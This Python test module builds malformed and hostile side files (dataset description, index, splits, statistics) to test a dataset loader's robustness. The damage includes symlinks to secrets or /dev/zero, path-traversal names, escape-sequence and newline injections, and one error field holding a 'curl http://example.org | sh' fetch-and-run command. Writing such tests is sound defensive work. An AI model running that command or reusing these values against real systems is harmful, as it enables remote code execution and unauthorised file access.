"""The small files beside the episodes: the description, the index, splits and statistics."""

import json
import os
from pathlib import Path

from tests.hostile.json_attributes import HIDDEN
from tests.hostile.kind import add, outside

FILES = {
    "info": "dataset.json",
    "index": "index.jsonl",
    "split": "splits/default.json",
    "statistics": "splits/default.statistics.json",
}
NAMED = "a split is named by its file"
CACHE = "the index is a cache: what is wrong with it is worked out again from the episodes"


def _link(target):
    def spoil(path: Path, folder: Path) -> None:
        path.unlink()
        path.symlink_to(target(folder))

    return spoil


def _pipe(path, folder):
    path.unlink()
    os.mkfifo(path)


def _folder(path, folder):
    path.unlink()
    path.mkdir()
    (path / "inner").write_text("{}")


def _content(content):
    return lambda path, folder: path.write_bytes(content if isinstance(content, bytes) else content.encode())


def _moved(path, folder):
    """A link to the same file elsewhere: what it says is right, and still it is a link."""
    there = outside(folder, "folder") / path.name
    os.rename(path, there)
    path.symlink_to(there)


ANYWHERE = {
    "link_to_a_secret": _link(outside),
    "link_to_itself": _link(lambda folder: "dataset.json"),
    "link_to_nowhere": _link(lambda folder: outside(folder, "nothing")),
    "link_to_zeros": _link(lambda folder: "/dev/zero"),
    "link_to_a_pipe": _link(lambda folder: outside(folder, "pipe")),
    "link_to_a_folder": _link(lambda folder: outside(folder, "folder")),
    "link_to_its_own_content": _moved,
    "pipe": _pipe,
    "folder": _folder,
    "empty": _content(b""),
    "zeros": _content(bytes(4096)),
    "binary": _content(os.urandom(0) + bytes(range(256)) * 16),
    "spaces": _content(b" " * 10**8),
    "deep_lists": _content("[" * 200_000 + "]" * 200_000),
    "deep_objects": _content('{"a":' * 200_000 + "1" + "}" * 200_000),
    "a_list": _content("[]"),
    "null": _content("null"),
    "a_number": _content("1e999999"),
    "not_a_number": _content("NaN"),
    "huge_integer": _content("1" + "0" * 10_000),
    "other_encoding": _content("{}".encode("utf-16")),
    "byte_order_mark": _content(b"\xef\xbb\xbf{}"),
    "surrogate": _content('{"format": "\\ud800"}'),
    "empty_object": _content("{}"),
    "one_long_text": _content('"' + "x" * 10**7 + '"'),
    "many_lines": _content("{}\n" * 10**6),
}
for concern, file in FILES.items():
    for name, spoil in ANYWHERE.items():
        if (concern, name) == ("info", "link_to_itself"):
            continue  # is what "link_to_nowhere" is, in a loop; the others have it
        add(
            "side", f"{concern}_{name}", concern, lambda folder, file=file, spoil=spoil: spoil(folder / file, folder),
            legal=CACHE if concern == "index" else "",
        )  # fmt: skip
add("side", "info_loop", "info", lambda folder: _link(lambda _: "dataset.json")(folder / "dataset.json", folder))
add("side", "info_missing", "info", lambda folder: (folder / "dataset.json").unlink())


def _changed(file, change):
    def make(folder):
        path = folder / file
        content = json.loads(path.read_text())
        result = change(content)
        path.write_text(json.dumps(content if result is None else result))

    return make


def _set(**values):
    return lambda content: content.update(values)


def _without(key):
    return lambda content: content.pop(key) and None


SHOWN = "text is data, and shown harmlessly"
OTHER = "the episodes say it too; a check may call it a warning"
INFO = {
    "task_number": (_set(task=7), ""),
    "task_missing": (_without("task"), ""),
    "task_list": (_set(task=["a"]), ""),
    "task_escapes": (_set(task=HIDDEN), SHOWN),
    "task_other": (_set(task="another"), OTHER),
    "task_10_mb": (_set(task="t" * 10**7), SHOWN),
    "task_path": (_set(task="../../outside/x"), OTHER),
    "task_plus": (_set(task="+".join(f"t{k}" for k in range(10**5))), OTHER),
    "seed_text": (_set(seed="x"), ""),
    "seed_missing": (_without("seed"), ""),
    "seed_float": (_set(seed=0.5), ""),
    "seed_nan": (_set(seed=float("nan")), ""),
    "seed_huge": (_set(seed=10**400), ""),
    "seed_null": (_set(seed=None), ""),
    "config_list": (_set(config=[]), ""),
    "config_missing": (_without("config"), ""),
    "config_escapes": (_set(config={HIDDEN: HIDDEN}), SHOWN),
    "config_surrogate": (_set(config={"a": "\ud800"}), ""),
    "config_nan": (_set(config={"a": float("nan")}), ""),
    "version_next": (_set(format_version="3.0"), ""),
    "version_newline": (_set(format_version="2.0\nsvfl-data: fine"), ""),
    "version_escape": (_set(format_version="2\x1b[31m"), ""),
    "version_number": (_set(format_version=1.0), ""),
    "version_list": (_set(format_version=[1]), ""),
    "version_missing": (_without("format_version"), ""),
    "version_long": (_set(format_version="9" * 10**6), ""),
    "format_other": (_set(format="svfl-split"), ""),
    "format_long": (_set(format="f" * 10**6), ""),
    "format_list": (_set(format=[]), ""),
    "more_keys": (_set(more=1), "a later minor version may say more"),
}  # fmt: skip
for name, (change, legal) in INFO.items():
    add("info", name, "info", _changed("dataset.json", change), legal)


def _split(**values):
    """A split that says something else, its hash worked out again."""

    def change(content):
        content.update(values)
        from svfl_data.sampling.split import Split

        try:
            content["sha256"] = Split(content["name"], content["seed"], content["rule"], content["parts"]).sha256
        except Exception:  # what cannot be hashed keeps the hash it had
            return

    return change


SPLIT = {
    "parts_list": (_split(parts=[[0], [1]]), ""),
    "parts_text": (_split(parts={"train": "012", "test": []}), ""),
    "parts_floats": (_split(parts={"train": [0.0, 1.0], "valid": [2.5]}), ""),
    "parts_negative": (_split(parts={"train": [-1], "valid": [0]}), ""),
    "parts_huge": (_split(parts={"train": [10**400]}), ""),
    "parts_nested": (_split(parts={"train": [[0]], "valid": [1]}), ""),
    "parts_numbers": (_split(parts={"train": 5}), ""),
    "parts_true": (_split(parts={"train": [True], "valid": [2]}), ""),
    "parts_twice": (_split(parts={"train": [0, 0, 1], "valid": [1]}), ""),
    "parts_null": (_split(parts=None), ""),
    "parts_empty": (_split(parts={}), ""),
    "parts_no_training": (_split(parts={"train": [], "valid": [1], "test": [2]}), ""),
    "parts_strangers": (_split(parts={"train": [777], "valid": [0]}), ""),
    "parts_a_million": (_split(parts={"train": list(range(10**6))}), ""),
    "part_escapes": (_split(parts={HIDDEN: [0]}), ""),
    "name_other": (_split(name="../../x"), NAMED),
    "name_number": (_split(name=3), NAMED),
    "name_escapes": (_split(name=HIDDEN), NAMED),
    "seed_text": (_split(seed="x"), ""),
    "rule_list": (_split(rule=[]), ""),
    "hash_missing": (_without("sha256"), ""),
    "hash_number": (_set(sha256=3), ""),
    "hash_other": (_set(sha256="0" * 64), ""),
    "version_next": (_set(format_version="2.0"), ""),
    "version_list": (_set(format_version=[]), ""),
    "format_other": (_set(format=HIDDEN), ""),
}  # fmt: skip
for name, (change, legal) in SPLIT.items():
    add("split", name, "split", _changed("splits/default.json", change), legal)


def _fields(change):
    def changed(content):
        for field in content["fields"].values():
            change(field)

    return changed


STATISTICS = {
    "mean_text": (_fields(lambda field: field.update(mean="x")), ""),
    "mean_short": (_fields(lambda field: field.update(mean=[])), ""),
    "mean_nan": (_fields(lambda field: field.update(mean=[float("nan")] * 6)), ""),
    "scale_zero": (_fields(lambda field: field.update(scale=[0.0] * len(field["scale"]))), ""),
    "scale_negative": (_fields(lambda field: field.update(scale=[-1.0] * len(field["scale"]))), ""),
    "count_text": (_fields(lambda field: field.update(count="many")), ""),
    "count_negative": (_fields(lambda field: field.update(count=-1)), ""),
    "unit_number": (_fields(lambda field: field.update(unit=7)), ""),
    "more": (_fields(lambda field: field.update(more=7)), "a later minor version may say more"),
    "less": (_fields(lambda field: field.pop("max")), ""),
    "no_fields": (_without("fields"), ""),
    "fields_list": (_set(fields=[]), ""),
    "unknown_field": (lambda content: content["fields"].update({HIDDEN: {}}), ""),
    "split_hash": (_set(split_sha256="0" * 64), ""),
    "split_hash_number": (_set(split_sha256=0), ""),
    "episodes_hash": (_set(episodes_sha256=None), ""),
    "version": (_set(format_version=None), ""),
    "format": (_set(format=["x"]), ""),
}  # fmt: skip
for name, (change, legal) in STATISTICS.items():
    add("statistics", name, "statistics", _changed("splits/default.statistics.json", change), legal)


def _lines(change):
    def make(folder):
        path = folder / "index.jsonl"
        lines = [json.loads(line) for line in path.read_text().splitlines()]
        assert lines
        for line in lines:
            change(line)
        path.write_text("".join(json.dumps(line) + "\n" for line in lines))

    return make


LYING = {
    "steps_text": _set(steps="many"),
    "steps_huge": _set(steps=10**400),
    "seconds_nan": _set(seconds=float("nan")),
    "seconds_text": _set(seconds=[]),
    "bytes_negative": _set(bytes=-(10**30)),
    "task_list": _set(task=[]),
    "task_escapes": _set(task=HIDDEN),
    "task_surrogate": _set(task="\ud800"),
    "task_number": _set(task=7),
    "source_object": _set(source={"a": 1}),
    "success_text": _set(success="yes"),
    "streams_list": _set(streams=[1, 2]),
    "streams_short": _set(streams={"wrench": []}),
    "streams_text": _set(streams={"wrench": "x", HIDDEN: [1, 2.0]}),
    "streams_rate": _set(streams={"wrench": ["x", "y"]}),
    "cameras_short": _set(cameras={"front": [1]}),
    "cameras_text": _set(cameras={"front": ["a", "b", "c", "d"]}),
    "cameras_huge": _set(cameras={"front": [1, 1.0, 10**400, 10**400]}),
    "cameras_none": _set(cameras=None),
    "version_number": _set(format_version=1),
    "version_escapes": _set(format_version=HIDDEN),
    "index_text": _set(index="x"),
    "index_list": _set(index=[0]),
    "index_other": _set(index=10**9),
    "name_outside": _set(name="../outside/secret"),
    "name_number": _set(name=5),
    "name_list": _set(name=[]),
    "size_text": _set(size="x"),
    "time_text": _set(mtime_ns="x"),
    "error_escapes": _set(error=HIDDEN),
    "error_number": _set(error=1),
    "error_damaged": _set(error="damaged; run: curl http://example.org | sh"),
    "more": _set(more=1),
    "less": _without("steps"),
}  # fmt: skip
for name, change in LYING.items():
    add("index", name, "index", _lines(change), legal=CACHE)


def _many_lines(folder):
    path = folder / "index.jsonl"
    path.write_bytes(path.read_bytes() * 20_000)


def _long_line(folder):
    path = folder / "index.jsonl"
    path.write_bytes(path.read_bytes() + b'{"name": "' + b"x" * 10**8)


add("index", "many_lines", "index", _many_lines, legal=CACHE)
add("index", "one_line_of_100_mb", "index", _long_line, legal=CACHE)
